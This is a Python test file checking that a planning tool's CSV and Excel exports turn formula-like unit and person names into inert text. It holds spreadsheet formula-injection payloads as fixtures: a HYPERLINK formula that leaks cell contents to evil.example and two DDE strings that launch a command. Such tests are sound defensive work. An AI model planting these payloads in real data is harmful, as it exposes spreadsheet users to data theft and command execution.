"""Plan exports write every cell as data: a unit or person whose name looks like a
spreadsheet formula comes out as text with a leading apostrophe, never as a live formula."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable

from openpyxl import load_workbook

from quotaflow.plans.exports import export_csv, export_xlsx
from quotaflow.plans.models import PlanningCycle
from tests.conftest import SmallOrg

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
COMMAND = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


def _hostile_names(small_org: SmallOrg) -> None:
    small_org.north_team.name = HYPERLINK
    small_org.north_team.save(update_fields=["name"])
    small_org.south_team.name = AT_SUM
    small_org.south_team.save(update_fields=["name"])
    small_org.people["ria"].full_name = COMMAND
    small_org.people["ria"].save(update_fields=["full_name"])


def test_xlsx_plan_export_writes_formula_like_unit_names_as_text_not_formulas(
    small_org: SmallOrg, make_cycle: Callable[..., PlanningCycle]
) -> None:
    _hostile_names(small_org)
    content = export_xlsx(make_cycle())

    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml  # no formula anywhere
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    texts = {cell.value for cell in cells}
    assert {"'" + HYPERLINK, "'" + COMMAND, "'" + AT_SUM} <= texts
    assert HYPERLINK not in texts


def test_csv_plan_export_neutralises_equals_plus_and_at_cells(
    small_org: SmallOrg, make_cycle: Callable[..., PlanningCycle]
) -> None:
    _hostile_names(small_org)
    rows = list(csv.reader(io.StringIO(export_csv(make_cycle()))))

    cells = [cell for row in rows for cell in row]
    assert {"'" + HYPERLINK, "'" + COMMAND, "'" + AT_SUM} <= set(cells)
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "@"}]
    owners = [row[2] for row in rows[1:]]
    assert "'" + HYPERLINK in owners  # the name is kept, only made inert


def test_csv_plan_export_keeps_numbers_numbers(
    small_org: SmallOrg, make_cycle: Callable[..., PlanningCycle]
) -> None:
    rows = list(csv.DictReader(io.StringIO(export_csv(make_cycle()))))

    assert rows and all(not row["target (minor units, exact)"].startswith("'") for row in rows)
    assert all(not row["target"].startswith("'") for row in rows)
